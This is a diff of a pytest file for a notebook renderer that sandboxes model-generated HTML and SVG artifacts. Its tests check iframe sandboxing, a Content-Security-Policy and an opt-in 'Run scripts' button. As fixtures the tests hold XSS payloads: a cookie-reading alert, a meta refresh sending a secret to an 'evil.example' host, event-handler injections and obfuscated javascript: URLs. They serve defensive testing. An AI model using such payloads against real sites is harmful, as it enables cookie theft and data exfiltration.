@@ -5,7 +5,9 @@ from __future__ import annotations
 import html
 import re
 
-from glm_nb.render import Artifact, extract_artifacts, markdown_html
+import pytest
+
+from glm_nb.render import Artifact, extract_artifacts, iframe_html, markdown_html
 
 ANSWER = """Here is a drawing:
 
@@ -32,8 +34,8 @@ def test_svg_and_html_blocks_become_artifacts_in_order():
     assert "steal" in artifacts[0].source and "steal" not in artifacts[0].html()
 
 
-def test_html_runs_only_in_a_sandbox_without_same_origin():
-    frame = Artifact.from_block("html", "<script>alert(document.cookie)</script>").html()
+def test_html_asked_to_run_runs_only_in_a_sandbox_without_same_origin():
+    frame = iframe_html("<script>alert(document.cookie)</script>", scripts=True)
 
     iframe = re.search(r"<iframe[^>]*>", frame).group(0)
     assert 'sandbox="allow-scripts"' in iframe
@@ -48,13 +50,14 @@ def test_html_runs_only_in_a_sandbox_without_same_origin():
     assert "Content-Security-Policy" in srcdoc and "default-src 'none'" in srcdoc
 
 
-def test_the_model_page_cannot_navigate_its_frame_to_leak_data():
+@pytest.mark.parametrize("scripts", [False, True])
+def test_the_model_page_cannot_navigate_its_frame_to_leak_data(scripts):
     """A page can always navigate itself (`location = url`, `<meta http-equiv=refresh>`), whatever its own CSP;
     the policy of the document around its frame decides: `frame-src 'none'` refuses every such navigation."""
     source = '<meta http-equiv="refresh" content="0;url=https://evil.example/?secret=1"><script>location="x"</script>'
-    frame = Artifact.from_block("html", source).html()
+    frame = re.search(r"<iframe[^>]*>", iframe_html(source, scripts=scripts)).group(0)
 
-    wrapper = html.unescape(re.search(r'srcdoc="([^"]*)"', frame).group(1))
+    wrapper = html.unescape(re.search(r' srcdoc="([^"]*)"', frame).group(1))
 
     policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', wrapper).group(1)
     assert wrapper.startswith('<meta http-equiv="Content-Security-Policy"')  # before anything else
@@ -67,7 +70,7 @@ def test_markdown_escapes_raw_html_and_renders_artifacts_in_place():
 
     assert "<script>parent" not in page.split("<iframe", 1)[0]
     assert 'onclick="' not in re.sub(r'srcdoc="[^"]*"', "", page)  # as a live attribute: nowhere
-    assert 'sandbox="allow-scripts"' in page
+    assert 'sandbox=""' in page and "glm-nb-run-scripts" in page  # its script runs only when asked
     assert '<code class="language-python">' in page
 
 
@@ -100,3 +103,50 @@ def test_svg_artifact_bundle_offers_sanitized_image():
 
     assert "onload" not in bundle["image/svg+xml"]
     assert bundle["text/plain"].startswith("<svg>")
+
+
+def _frames(shown: str) -> tuple[str, str]:
+    """The outer frame's tag and the inner (model's) frame's tag inside its wrapper."""
+    outer = re.search(r"<iframe[^>]*>", shown).group(0)
+    wrapper = html.unescape(re.search(r' srcdoc="([^"]*)"', outer).group(1))
+    return outer, re.search(r"<iframe[^>]*>", wrapper).group(0)
+
+
+def test_an_html_artifact_with_a_script_gets_no_allow_scripts_until_asked():
+    source = "<p>card</p><script>document.title = 'ran'</script>"
+
+    shown = Artifact.from_block("html", source).html()
+    asked = iframe_html(source, scripts=True)
+
+    outer, inner = _frames(shown)
+    assert 'sandbox=""' in outer and 'sandbox=""' in inner and "allow-scripts" not in outer + inner
+    assert re.search(r'<button[^>]*class="glm-nb-run-scripts"', shown) and "Run scripts" in shown
+    assert "could send data out" in shown  # what running means, next to the button
+    outer, inner = _frames(asked)
+    assert 'sandbox="allow-scripts"' in outer and 'sandbox="allow-scripts"' in inner
+    assert "allow-same-origin" not in shown + asked
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "<script>x()</script>",
+        '<img src="data:," onerror="x()">',
+        "<svg/onload=x()>",
+        '<a href=" java\tscript:x()">a</a>',
+        '<a href="&#106;avascript:x()">a</a>',
+        '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>',
+    ],
+)
+def test_every_way_html_runs_script_gets_the_run_button(source):
+    assert "glm-nb-run-scripts" in Artifact.from_block("html", source).html()
+
+
+def test_an_html_artifact_without_scripts_renders_static_with_no_button():
+    source = '<button style="color:blue">Save</button><table><tr><td>1</td></tr></table>'
+
+    shown = Artifact.from_block("html", source).html()
+
+    outer, inner = _frames(shown)
+    assert 'sandbox=""' in outer and 'sandbox=""' in inner
+    assert "glm-nb-run-scripts" not in shown and "<script" not in shown  # nothing of ours runs either
